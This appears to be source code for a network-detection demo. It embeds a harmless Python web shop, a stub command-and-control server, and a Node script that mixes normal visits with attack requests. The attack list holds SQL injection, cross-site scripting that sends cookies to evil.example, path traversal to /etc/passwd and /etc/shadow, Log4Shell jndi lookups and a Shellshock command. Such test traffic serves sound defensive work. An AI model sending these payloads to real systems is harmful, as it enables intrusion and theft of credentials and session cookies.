// The demo's workload, as small scripts written to a temp dir at start: a web shop (python, HTTP on
// port 80 and HTTPS on 443), a command-and-control server (python) and the visitors (node): normal
// browsing mixed with attacks (SQL injection, XSS, path traversal, Log4Shell, Shellshock).

/** python3 webshop.py CERT KEY: a small shop on :80 and :443 (same handler). */
export const WEBAPP_PY = String.raw`
import http.server, ssl, sys, threading, urllib.parse, html
cert, key = sys.argv[1], sys.argv[2]
PRODUCTS = {'1': 'Trail shoes', '2': 'Rain jacket', '3': 'Water bottle'}
class Shop(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    server_version = 'DemoShop/1.0'
    def send(self, status, body, ctype='text/html'):
        data = body.encode()
        self.send_response(status)
        self.send_header('Content-Type', ctype + '; charset=utf-8')
        self.send_header('Content-Length', str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    def do_GET(self):
        u = urllib.parse.urlsplit(self.path)
        q = urllib.parse.parse_qs(u.query)
        if u.path == '/':
            return self.send(200, '<h1>Demo shop</h1><a href="/products?id=1">shoes</a>')
        if u.path == '/products':
            pid = q.get('id', ['1'])[0]
            return self.send(200, '<p>%s</p>' % html.escape(PRODUCTS.get(pid, 'no such product')))
        if u.path == '/search':
            return self.send(200, '<p>%d results for %s</p>' % (0, html.escape(q.get('q', [''])[0])))
        if u.path == '/download':
            return self.send(404, 'no such file', 'text/plain')
        return self.send(404, 'not found', 'text/plain')
    def do_POST(self):
        n = int(self.headers.get('Content-Length', '0'))
        self.rfile.read(n)
        return self.send(200, '<p>welcome back</p>')
    def log_message(self, *a):
        pass
def serve(port, tls):
    srv = http.server.ThreadingHTTPServer(('0.0.0.0', port), Shop)
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(cert, key)
        srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    srv.serve_forever()
threading.Thread(target=serve, args=(443, True), daemon=True).start()
print('READY', flush=True)
serve(80, False)
`;

/** python3 c2.py: the "command and control" server on :80 in the outside namespace. */
export const C2_PY = String.raw`
import http.server
class C2(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def do_GET(self):
        body = b'sleep 60'
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_GET
    def log_message(self, *a):
        pass
srv = http.server.ThreadingHTTPServer(('0.0.0.0', 80), C2)
print('READY', flush=True)
srv.serve_forever()
`;

/**
 * node visitors.js HOST SECONDS [EVERY_MS]: keep-alive browsing over HTTP and HTTPS, with one attack
 * every EVERY_MS (default 2.5 s) from the list below; prints one line per attack ("ATTACK <name>") and exits after SECONDS.
 */
export const VISITORS_JS = String.raw`
const http = require('http'), https = require('https');
const [host, seconds, every] = [process.argv[2], Number(process.argv[3]), Number(process.argv[4] || 2500)];
const agents = { http: new http.Agent({ keepAlive: true, maxSockets: 4 }), https: new https.Agent({ keepAlive: true, maxSockets: 4, rejectUnauthorized: false }) };
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0';
function request(scheme, method, path, headers = {}, body) {
  return new Promise((resolve) => {
    const mod = scheme === 'https' ? https : http;
    const h = { Host: 'shop.demo', 'User-Agent': BROWSER, Accept: 'text/html,*/*', ...headers };
    if (body !== undefined) { h['Content-Type'] = 'application/x-www-form-urlencoded'; h['Content-Length'] = Buffer.byteLength(body); }
    const req = mod.request({ host, port: scheme === 'https' ? 443 : 80, method, path, headers: h, agent: agents[scheme], timeout: 5000 }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode));
    });
    req.on('error', () => resolve(0));
    req.on('timeout', () => req.destroy());
    req.end(body);
  });
}
const normal = [
  ['http', 'GET', '/'], ['http', 'GET', '/products?id=2'], ['https', 'GET', '/search?q=rain+jacket'],
  ['https', 'GET', '/products?id=3'], ['http', 'GET', '/search?q=shoes%20size%2042'],
  ['https', 'POST', '/login', {}, 'user=alice&password=correct-horse'],
];
const attacks = [
  ['SQL injection (http)', 'http', 'GET', "/products?id=1'%20OR%20'1'='1"],
  ['cross-site scripting (http)', 'http', 'GET', '/search?q=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E'],
  ['path traversal (http)', 'http', 'GET', '/download?file=../../../../etc/passwd'],
  ['Log4Shell (http)', 'http', 'GET', '/', { 'X-Api-Version': '$' + '{jndi:ldap://evil.example:1389/a}' }],
  ['Shellshock (http)', 'http', 'GET', '/cgi-bin/status', { 'User-Agent': "() { :; }; /bin/bash -c 'cat /etc/passwd'" }],
  ['SQL injection in a login form (https)', 'https', 'POST', '/login', {}, "user=admin'%20OR%201%3D1--&password=hunter2"],
  ['cross-site scripting (https)', 'https', 'GET', '/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'],
  ['Log4Shell (https)', 'https', 'GET', '/products?id=1', { 'User-Agent': '$' + '{jndi:ldap://evil.example:1389/Exploit}' }],
  ['path traversal (https)', 'https', 'GET', '/download?file=..%2F..%2F..%2Fetc%2Fshadow'],
  ['UNION-based SQL injection (https)', 'https', 'GET', '/products?id=-1%20UNION%20SELECT%20username,password%20FROM%20users--'],
];
const end = Date.now() + seconds * 1000;
let n = 0;
(async () => {
  let nextAttack = Date.now() + Math.min(2000, every);
  let i = 0;
  while (Date.now() < end) {
    const [scheme, method, path, headers, body] = normal[n++ % normal.length];
    await request(scheme, method, path, headers, body);
    if (Date.now() >= nextAttack) {
      const [name, s, m, p, h, b] = attacks[i++ % attacks.length];
      console.log('ATTACK ' + name);
      await request(s, m, p, h, b);
      nextAttack = Date.now() + every;
    }
    await new Promise((r) => setTimeout(r, 150));
  }
  console.log('VISITS ' + n);
  agents.http.destroy(); agents.https.destroy();
})();
`;
